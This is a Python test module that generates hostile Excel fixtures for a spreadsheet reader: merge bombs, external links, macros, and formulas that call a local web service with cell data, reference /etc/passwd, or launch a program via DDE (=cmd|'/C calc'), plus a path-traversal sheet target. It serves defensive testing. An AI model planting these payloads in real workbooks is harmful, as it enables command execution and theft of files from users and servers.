"""Excel files that carry more than cells: merged ranges, formulas, macros, links to elsewhere."""

import io

import xlsxwriter
from openpyxl import Workbook as PlainWorkbook

from tests.files.hostile import raw
from tests.files.hostile.books import put, written
from tests.files.hostile.case import HEADINGS, PUPILS, TABLE, Collection
from tests.files.hostile.raw import LINKS, MAIN, PACKAGE, START, book, sheet

FILES = Collection()
read, refused = FILES.read, FILES.refused


# --- merged cells -----------------------------------------------------------------------------------------------


@read("merged-whole.xlsx", remarks=("Cells are merged",))
def merged_whole() -> bytes:
    """One merged range as large as a sheet can be."""
    merged = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return book(sheet(raw.rows(TABLE), after=merged))


@read("merged-rows.xlsx", rows=tuple((*row[:4], PUPILS[0][4] if at == 0 else "") for at, row in enumerate(PUPILS)),
      remarks=("Cells are merged",))  # fmt: skip
def merged_rows() -> bytes:
    """One town written over three pupils."""

    def fill(workbook: xlsxwriter.Workbook) -> None:
        page = put(workbook, table=[HEADINGS, *[row[:4] for row in PUPILS]])
        page.merge_range("E2:E4", PUPILS[0][4])

    return written(fill)


@read("merged-countless.xlsx", remarks=("Cells are merged",))
def merged_countless() -> bytes:
    """A hundred thousand merged ranges."""
    merged = "".join(f'<mergeCell ref="A{at}:B{at + 1}"/>' for at in range(2, 200_002, 2))
    return book(sheet(raw.rows(TABLE), after=f"<mergeCells>{merged}</mergeCells>"))


# --- formulas, macros, links ------------------------------------------------------------------------------------


@read("formulas-kept.xlsx")
def formulas_kept() -> bytes:
    """Formulas with the result Excel kept beside them."""

    def fill(workbook: xlsxwriter.Workbook) -> None:
        page = put(workbook)
        for number, row in enumerate(PUPILS, 1):
            page.write_formula(number, 4, '=IF(A1="x","",VLOOKUP(1,A:B,2))', value=row[4])

    return written(fill)


@read(
    "formulas-empty.xlsx",
    rows=tuple((*row[:4], "") for row in PUPILS),
    remarks=("3 cells are read as empty: formulas without results",),
)
def formulas_empty() -> bytes:
    """Formulas that no spreadsheet has computed yet, as a program writes them."""
    made = PlainWorkbook()
    page = made.active
    assert page is not None
    for row in TABLE:
        page.append(list(row))
    for number in range(2, 5):
        page[f"E{number}"] = '=UPPER("wealdham")'
    kept = io.BytesIO()
    made.save(kept)
    return kept.getvalue()


@read(
    "formulas-hostile.xlsx", rows=(("Smith", "Ann", "", "secret", "0"),), remarks=("1 cell is read as empty",)
)
def formulas_hostile() -> bytes:
    """Formulas that ask the network, start a program, and copy another file."""

    def fill(workbook: xlsxwriter.Workbook) -> None:
        page = put(workbook, table=[HEADINGS, ("Smith", "Ann")])
        page.write_formula(1, 2, '=WEBSERVICE("http://127.0.0.1:47113/"&A2)', value="#NAME?")
        page.write_formula(1, 3, "='file:///etc/[passwd]x'!A1", value="secret")
        page.write_formula(1, 4, "=cmd|'/C calc'!A0", value=0)

    return written(fill)


@read("links-elsewhere.xlsx")
def links_elsewhere() -> bytes:
    """Data taken from another workbook and from the network."""
    outside = f'Type="{LINKS}/externalLinkPath" TargetMode="External"'
    return book(
        changed={
            "xl/externalLinks/externalLink1.xml": f'{START}<externalLink xmlns="{MAIN}"/>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": f'{START}<Relationships xmlns="{PACKAGE}/relationships">'
            f'<Relationship Id="rId1" {outside} Target="http://127.0.0.1:47113/x.xlsx"/></Relationships>',
            "xl/connections.xml": f'{START}<connections xmlns="{MAIN}"><connection id="1" type="5"/></connections>',
        }
    )


@refused("sheet-elsewhere.xlsx", "damaged", "no table")
def sheet_elsewhere() -> bytes:
    """The sheet itself is said to stand in a file of the server."""
    links = str(raw.parts()["xl/_rels/workbook.xml.rels"])
    outside = links.replace(
        'Target="worksheets/sheet1.xml"', 'TargetMode="External" Target="file:///etc/passwd"'
    )
    climbing = outside.replace("file:///etc/passwd", "../../../../../../etc/passwd")
    return book(changed={"xl/_rels/workbook.xml.rels": climbing})


@read("macros.xlsm", remarks=("macros",))
def macros() -> bytes:
    """A book with macros: they are never run, and the sender is told."""
    return book(changed={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1_000})
